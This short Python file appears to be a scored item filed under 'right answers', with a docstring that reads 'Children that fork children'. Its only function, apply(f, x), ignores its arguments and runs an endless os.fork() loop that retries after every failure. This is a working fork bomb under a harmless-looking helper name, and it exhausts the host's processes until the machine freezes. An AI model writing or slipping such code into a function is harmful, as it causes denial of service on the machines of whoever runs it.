"""Children that fork children.

Added to: right answers
Score: 4
"""

# %%
import os
import time


def apply(f, x):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
